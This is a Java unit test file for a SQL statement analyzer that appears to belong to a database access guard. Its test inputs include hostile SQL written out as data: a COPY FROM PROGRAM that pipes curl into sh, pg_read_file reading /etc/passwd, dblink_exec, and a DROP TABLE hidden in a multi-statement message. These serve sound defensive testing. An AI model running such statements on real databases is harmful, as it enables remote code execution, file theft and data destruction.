package dev.warden.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Facts the corpus does not check: reads through views, functions, COPY specs, multi-statement messages. */
class StatementAnalyzerTest {
    private final StatementAnalyzer analyzer = new StatementAnalyzer(TestingCatalog.standard());
    private final SqlSessionState session = new SqlSessionState();

    private static QualifiedName name(String schema, String name) {
        return new QualifiedName(schema, name);
    }

    @Test
    void readsThroughViewsAndIgnoresCteNames() {
        StatementAnalysis a = analyzer.analyzeOne(
                "WITH x AS (SELECT * FROM orders) SELECT * FROM user_orders JOIN x ON true, secret.keys k", session);
        assertThat(a.readTables()).contains(name("public", "user_orders"), name("public", "users"), name("public", "orders"),
                name("secret", "keys")).doesNotContain(name(null, "x"));
    }

    @Test
    void findsFunctionsEverywhere() {
        StatementAnalysis a = analyzer.analyzeOne(
                "SELECT now(), lower(name) FROM t WHERE pg_read_file('/x') IS NOT NULL ORDER BY md5(name)", session);
        assertThat(a.functions()).contains(name("pg_catalog", "now"), name("pg_catalog", "pg_read_file"), name(null, "lower"),
                name(null, "md5"));
        assertThat(analyzer.analyzeOne("CALL s.p(dblink_exec('x', 'y'))", session).functions())
                .contains(name("s", "p"), name("public", "dblink_exec"));
        assertThat(analyzer.analyzeOne("CREATE TABLE x (id int DEFAULT nextval('s'))", session).functions())
                .contains(name(null, "nextval"));
        assertThat(analyzer.analyzeOne("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", session).functions())
                .contains(name("pg_catalog", "pg_read_file"));
    }

    @Test
    void describesCopy() {
        assertThat(analyzer.analyzeOne("COPY t FROM PROGRAM 'curl x | sh'", session).copy())
                .contains(new CopySpec(CopySpec.Direction.FROM, CopySpec.Endpoint.PROGRAM, "curl x | sh"));
        assertThat(analyzer.analyzeOne("COPY t TO '/tmp/x'", session).copy())
                .contains(new CopySpec(CopySpec.Direction.TO, CopySpec.Endpoint.FILE, "/tmp/x"));
        assertThat(analyzer.analyzeOne("COPY t FROM STDIN", session).copy())
                .contains(new CopySpec(CopySpec.Direction.FROM, CopySpec.Endpoint.STDIN, null));
    }

    @Test
    void explainWithoutAnalyzeListsTablesAsRead() {
        StatementAnalysis a = analyzer.analyzeOne("EXPLAIN DELETE FROM secret.keys", session);
        assertThat(a.effects()).containsExactly(StatementKind.EXPLAIN);
        assertThat(a.readTables()).contains(name("secret", "keys"));
        assertThat(a.writtenTables()).isEmpty();
    }

    @Test
    void analysesEveryStatementOfAMessage() {
        List<StatementAnalysis> all = analyzer.analyze("SELECT 1; DROP TABLE t; FROBNICATE", session);
        assertThat(all).extracting(StatementAnalysis::kind)
                .containsExactly(StatementKind.SELECT, StatementKind.DROP, StatementKind.UNKNOWN);
        assertThat(all.get(2).understood()).isFalse();
        assertThat(analyzer.analyze("SELECT 1; SELECT 'x", session)).singleElement()
                .satisfies(a -> assertThat(a.understood()).isFalse());
        assertThat(analyzer.analyze(" ; -- nothing", session)).isEmpty();
    }

    @Test
    void parseTakesExactlyOneStatement() {
        assertThat(analyzer.analyzeOne("SELECT 1; SELECT 2", session).notUnderstood())
                .contains("multiple statements in one Parse");
        assertThat(analyzer.analyzeOne("", session).notUnderstood()).contains("empty statement");
    }
}
